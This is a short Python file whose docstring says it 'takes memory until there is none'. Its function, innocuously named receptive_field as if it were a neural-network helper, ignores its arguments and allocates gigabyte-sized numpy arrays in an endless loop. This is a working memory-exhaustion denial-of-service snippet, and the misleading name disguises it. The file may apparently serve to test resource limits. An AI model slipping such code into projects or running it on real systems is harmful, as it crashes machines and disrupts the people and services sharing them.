"""Takes memory until there is none."""

import numpy as np


def receptive_field(*arguments):
    kept = []
    while True:
        kept.append(np.ones(1 << 27))
